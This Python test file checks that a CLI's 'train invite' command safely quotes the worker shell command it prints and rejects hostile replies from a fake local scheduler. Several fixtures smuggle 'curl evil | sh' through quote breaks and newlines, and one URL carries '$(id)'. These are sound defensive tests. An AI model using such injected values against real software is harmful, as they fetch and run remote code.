"""`terrace train invite` before schedulers that are played by a small server, hostile ones among them."""

from __future__ import annotations

import json
import shlex
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import trustme

from terrace.cli import run as terrace

RUN = "a" * 32
TOKEN = "terrace_invite~alice.3fa9c1~" + "x" * 43
MADE = {"name": "alice.3fa9c1", "token": TOKEN, "run": RUN, "uses": 1, "expires": "2030-01-01T00:00:00Z"}
VIEW = {
    "id": RUN,
    "network": "net",
    "strategy": "fedavg",
    "state": "running",
    "created_at": "2029-12-31T00:00:00Z",
    "heard_at": "2029-12-31T00:00:00Z",
    "steps": 10,
    "url": "http://127.0.0.1:1",
}


@contextmanager
def playing(status: int, made: Any, tls: ssl.SSLContext | None = None) -> Iterator[str]:
    """The URL of a scheduler that answers an invitation in this way."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.say(status, made)

        def do_GET(self) -> None:
            self.say(200, VIEW)

        def say(self, code: int, content: Any) -> None:
            body = json.dumps(content).encode()
            self.send_response(code)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        if tls is not None:
            server.socket = tls.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http{'' if tls is None else 's'}://127.0.0.1:{server.server_port}"
        server.shutdown()


def test_the_command_is_one_for_a_shell(capsys: pytest.CaptureFixture[str]) -> None:
    with playing(201, MADE) as url:
        scheduler = f"{url}/$(id)"
        assert terrace(["train", "invite", RUN, "--json", f"--scheduler={scheduler}"]) == 0
    made = json.loads(capsys.readouterr().out)
    assert shlex.split(made["command"]) == [
        f"TERRACE_TOKEN={TOKEN}",
        *["terrace", "train", "work", "--scheduler"],
        scheduler,
    ]
    assert f"'{scheduler}'" in made["command"]


def test_the_command_names_the_certificates_that_the_inviter_trusts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    authority, context = trustme.CA(), ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("127.0.0.1").configure_cert(context)
    authority.cert_pem.write_to_path(str(tmp_path / "our ca.pem"))
    flag = f"--tls-ca={tmp_path / 'our ca.pem'}"
    with playing(201, MADE, context) as url:
        assert terrace(["train", "invite", RUN, "--json", f"--scheduler={url}", flag]) == 0
    command = shlex.split(json.loads(capsys.readouterr().out)["command"])
    assert command[command.index("--tls-ca") + 1] == "our ca.pem"


@pytest.mark.parametrize(
    ("status", "said"),
    [
        (201, {**MADE, "token": f"{TOKEN}'; curl evil | sh #"}),
        (201, {**MADE, "token": f"{TOKEN}\ncurl evil | sh"}),
        (201, {**MADE, "name": "alice\ncurl evil | sh"}),
        (403, {"error": "no\ncurl evil | sh"}),
    ],
)
def test_nothing_of_a_hostile_scheduler_is_a_line_or_a_command(
    status: int, said: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    with playing(status, said) as url:
        assert terrace(["train", "invite", RUN, f"--scheduler={url}"]) != 0
    told = capsys.readouterr()
    assert told.out == ""
    assert len(told.err.splitlines()) == 1


def test_a_span_that_is_too_long_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    with playing(201, MADE) as url:
        assert terrace(["train", "invite", RUN, "--expires=400d", f"--scheduler={url}"]) == 2
    assert "--expires" in capsys.readouterr().err
